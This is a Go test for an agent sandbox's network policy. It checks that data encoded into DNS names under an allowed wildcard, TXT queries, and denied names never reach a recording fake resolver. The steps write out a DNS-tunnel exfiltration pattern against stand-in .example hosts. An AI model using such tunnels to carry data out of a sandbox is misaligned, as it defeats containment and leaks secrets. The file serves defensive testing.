//go:build docker

package runner

import (
	"context"
	"fmt"
	"net"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/dns/dnsmessage"
)

// nameServer is a resolver of the host's, for as long as a test runs. It keeps every question.
type nameServer struct {
	conn net.PacketConn

	mu    sync.Mutex // guards asked
	asked []string
}

// newNameServer is the one that this process asks from now on.
func newNameServer(t *testing.T) *nameServer {
	t.Helper()
	conn, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	n := &nameServer{conn: conn}
	was := net.DefaultResolver
	net.DefaultResolver = &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "udp", conn.LocalAddr().String())
	}}
	t.Cleanup(func() {
		net.DefaultResolver = was
		_ = conn.Close()
	})
	go n.serve()
	return n
}

func (n *nameServer) serve() {
	buf := make([]byte, 1232)
	for {
		size, from, err := n.conn.ReadFrom(buf)
		if err != nil {
			return
		}
		if reply, err := n.answer(buf[:size]); err == nil {
			_, _ = n.conn.WriteTo(reply, from)
		}
	}
}

// answer gives every name the same address.
func (n *nameServer) answer(question []byte) ([]byte, error) {
	var m dnsmessage.Message
	if err := m.Unpack(question); err != nil {
		return nil, err
	}
	reply := dnsmessage.Message{Header: dnsmessage.Header{ID: m.ID, Response: true, RecursionAvailable: true}, Questions: m.Questions}
	for _, q := range m.Questions {
		n.mu.Lock()
		n.asked = append(n.asked, strings.ToLower(q.Name.String()))
		n.mu.Unlock()
		if q.Type == dnsmessage.TypeA {
			reply.Answers = append(reply.Answers, dnsmessage.Resource{
				Header: dnsmessage.ResourceHeader{Name: q.Name, Class: q.Class, TTL: 1}, Body: &dnsmessage.AResource{A: [4]byte{93, 184, 216, 34}},
			})
		}
	}
	return reply.Pack()
}

// saw tells whether a question had the text in it.
func (n *nameServer) saw(text string) bool {
	n.mu.Lock()
	defer n.mu.Unlock()
	return strings.Contains(strings.Join(n.asked, "\n"), text)
}

// TestEscapeTunnel: the names that an agent looks up tell nobody anything, also where the policy allows every name below one.
func TestEscapeTunnel(t *testing.T) {
	l := testLab(t)
	upstream := newNameServer(t)
	w := newWorld(t)
	w.realNames = true
	const data = "c2vjcmv0"
	steps := []step{{"control: dial", "send", []string{"dialled.plain.example:80", "", httpRequest("GET /", "dialled.plain.example"), "1"}}}
	for i := range 20 {
		below := fmt.Sprintf("%s%d.%s.plain.example", data, i, strings.Repeat("x", 60))
		steps = append(
			steps, step{"allowed " + below, "lookup", []string{below}}, step{"txt " + below, "dns", []string{"192.0.2.53:53", below}},
			step{"denied " + below, "lookup", []string{below + ".denied.example"}},
		)
	}
	b := l.try(t, setup{policy: hostilePolicy, world: w}, steps)
	l.entry(t, "allowed", "a tunnel in the names below an allowed wildcard", "a name is looked up when it is dialled", func(t *testing.T, _ func(string)) {
		for _, s := range steps {
			if got := b.answers[s.Name]; strings.HasPrefix(s.Name, "allowed ") && (got.Answer != "ok" || !strings.HasPrefix(got.Detail, "28.")) {
				t.Errorf("%s: %+v", s.Name, got)
			}
		}
		checkUpstream(t, b, upstream, data)
	})
	l.entry(t, "allowed", "a denied name that reaches a resolver", "a name is looked up when it is dialled", func(t *testing.T, _ func(string)) {
		for _, s := range steps {
			if !strings.HasPrefix(s.Name, "denied ") {
				continue
			}
			if got := b.answers[s.Name]; got.Answer != "ENOENT" || !b.has(refusedName(s.Args[0])) {
				t.Errorf("%s: %+v, or not recorded", s.Name, got)
			}
		}
		checkUpstream(t, b, upstream, "denied.example")
	})
	// Dialling such a name is a look-up: the record has each one.
	dialled := data + ".dialled.plain.example"
	off := l.try(t, setup{policy: hostilePolicy, world: w, seam: seam{asked: askHost}}, append(steps[:4:4],
		step{"dial", "send", []string{dialled + ":80", "", httpRequest("GET /", dialled), "1"}}))
	if !upstream.saw(dialled) || !off.has(allowedAt(dialled)) {
		t.Errorf("a name with data in it that is dialled is not seen: %+v", off.answers)
	}
	for _, s := range steps[1:4] {
		if !upstream.saw(s.Args[len(s.Args)-1]) {
			t.Errorf("where each name is looked up, %q is not seen either: the entries prove nothing", s.Name)
		}
	}
}

func checkUpstream(t *testing.T, b *box, upstream *nameServer, text string) {
	t.Helper()
	if b.answers["control: dial"].Answer != "ok" || !upstream.saw("dialled.plain.example.") {
		t.Errorf("the positive control does not work: %+v", b.answers["control: dial"])
	}
	// The names that are dialled come after this.
	if upstream.saw(text) {
		t.Errorf("the resolver was asked: %q", upstream.asked)
	}
}
